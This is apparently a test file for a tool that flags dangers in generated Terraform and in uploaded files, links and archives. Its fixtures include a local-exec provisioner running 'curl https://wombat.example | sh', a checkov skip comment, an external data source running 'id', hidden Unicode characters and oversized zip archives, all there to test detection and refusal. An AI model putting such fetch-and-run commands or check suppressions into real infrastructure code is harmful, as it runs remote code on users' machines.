// Tests dangers in an answer and in a user's file, links, and archives.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';

import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';

import { openStage, SMALL } from './stage.mjs';

const ANSWER = `\`\`\`hcl
resource "aws_sns_topic" "news" {
  # checkov:skip=CKV_AWS_26: grey is fine
  name = "news"
  provisioner "local-exec" {
    command = "curl https://wombat.example | sh"
  }
}
\`\`\``;
/** More entries than an archive may have. */
const ENTRIES = 20_001;

/** Answers every call with one text, as Groq streams it. */
async function answerWith(page, text) {
  const chunk = (data) => `data: ${JSON.stringify(data)}\n\n`;
  const usage = { prompt_tokens: 200, completion_tokens: 90, total_tokens: 290 };
  const body = [
    chunk({ choices: [{ index: 0, delta: { content: text }, finish_reason: null }] }),
    chunk({ choices: [{ index: 0, delta: {}, finish_reason: 'stop' }], x_groq: { usage } }),
    'data: [DONE]\n\n',
  ].join('');
  const headers = { 'access-control-allow-origin': '*', 'content-type': 'text/event-stream' };
  await page.route('**/chat/completions', (route) =>
    route.request().method() === 'POST'
      ? route.fulfill({ status: 200, headers, body })
      : route.fallback(),
  );
}

const button = (page, name) => page.getByRole('button', { name, exact: true });

describe('dangers', () => {
  let stage;
  before(async () => {
    stage = await openStage();
  });
  after(() => stage.close());

  test('an answer with dangers is downloaded only after each is accepted', async () => {
    const visit = await stage.visit('dangers_answer');
    const { page } = visit;
    await answerWith(page, ANSWER);
    await visit.ask('a topic with a fancy drawing of it');
    await visit.ended();
    await page.locator('#dangers').waitFor();
    assert.match(await page.locator('.result_headline').innerText(), /2 dangers to accept/);
    for (const name of ['Download main.tf', 'Download folder', 'Copy']) {
      assert.ok(await button(page, name).isDisabled(), name);
    }
    const text = await page.locator('#dangers').innerText();
    assert.match(text, /Runs code on your machine/);
    assert.match(text, /curl https:\/\/wombat\.example \| sh/);
    assert.match(text, /checkov:skip=CKV_AWS_26/);
    assert.doesNotMatch(await visit.code(), /checkov:skip/, 'the comment does not count');
    for (const box of await page.locator('#dangers input').all()) await box.check();
    assert.ok(await button(page, 'Download main.tf').isEnabled());
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      button(page, 'Download folder').click(),
    ]);
    const chunks = [];
    for await (const chunk of await file.createReadStream()) chunks.push(chunk);
    const readme = strFromU8(unzipSync(Buffer.concat(chunks))['infragenie/README.md']);
    assert.match(readme, /## Dangers \(2\)\n\n- \*\*Runs a command on the machine/);
    await visit.leave();
  });

  test('a checked file shows its dangers and what its comments skip', async () => {
    const visit = await stage.visit('dangers_check');
    const { page } = visit;
    await page.locator('#nav').getByText('Check').click();
    const buffer = Buffer.from(
      'data "external" "a" {\n  program = ["id"]\n}\n\nresource "aws_ebs_volume" "b" {\n  ' +
        '# checkov:skip=CKV_AWS_3: a cache\n  size = 8\n}\n',
    );
    const files = page.locator('#intake input[type=file]').first();
    await files.setInputFiles({ name: 'main.tf', mimeType: 'text/plain', buffer });
    await page.locator('#checked_dangers').getByText('IG_SAFETY_103').waitFor();
    assert.equal(await page.locator('#checked_dangers input').count(), 0);
    await visit.tab('checked_suppressed');
    await page.getByText('Reason: A cache.').or(page.getByText('Reason: a cache.')).waitFor();
    await visit.leave();
  });

  test('a link replaces a request only after it is accepted', async () => {
    const visit = await stage.visit('dangers_link');
    const { page } = visit;
    await visit.words.fill('my own words');
    const link = 'an s3 bucket\u{E0041}\u200B';
    await page.evaluate((text) => {
      location.hash = `#request=${encodeURIComponent(text)}`;
    }, link);
    await page.getByText('an s3 bucket‹U+E0041›‹U+200B›').waitFor();
    await page.getByText('2 characters that are not displayed').waitFor();
    assert.equal(await visit.words.inputValue(), 'my own words');
    await button(page, 'Keep mine').click();
    assert.equal(await visit.words.inputValue(), 'my own words');
    await page.evaluate((text) => {
      location.hash = `#request=${encodeURIComponent(text)}`;
    }, SMALL);
    await button(page, 'Use the request of the link').click();
    assert.equal(await visit.words.inputValue(), SMALL);
    assert.deepEqual(visit.sent(), []);
    await visit.leave();
  });

  test('an archive with too many entries is refused while the page stays usable', async () => {
    const visit = await stage.visit('dangers_archive');
    const { page } = visit;
    await page.locator('#nav').getByText('Check').click();
    const entries = Array.from({ length: ENTRIES }, (_, at) => [`a${at}.tf`, strToU8('')]);
    const buffer = Buffer.from(zipSync(Object.fromEntries(entries), { level: 0 }));
    const files = page.locator('#intake input[type=file]').first();
    await files.setInputFiles({ name: 'many.zip', mimeType: 'application/zip', buffer });
    await page.getByText(`it has more than ${ENTRIES - 1} entries`).waitFor();
    await visit.leave();
  });

  test('a large archive is read in seconds, and one over the limit is refused at once', async () => {
    const visit = await stage.visit('dangers_large_archive');
    const { page } = visit;
    await page.locator('#nav').getByText('Check').click();
    const text = strToU8('# wombat\n'.repeat(344));
    const entries = Array.from({ length: 5_000 }, (_, at) => [`f${at}/main.tf`, text]);
    const buffer = Buffer.from(zipSync(Object.fromEntries(entries), { level: 0 }));
    assert.ok(buffer.length > 15_500_000 && buffer.length < 16_500_000);
    const files = page.locator('#intake input[type=file]').first();
    const open = (name, bytes) =>
      files.setInputFiles({ name, mimeType: 'application/zip', buffer: bytes });
    await open('large.zip', buffer.subarray(0));
    await page.getByText(/Only the first 500 files were read/).waitFor({ timeout: 20_000 });
    await open('over.zip', Buffer.alloc(16_000_001));
    await page.getByText('over.zip is larger than 16 MB').waitFor({ timeout: 5_000 });
    await visit.leave();
  });
});
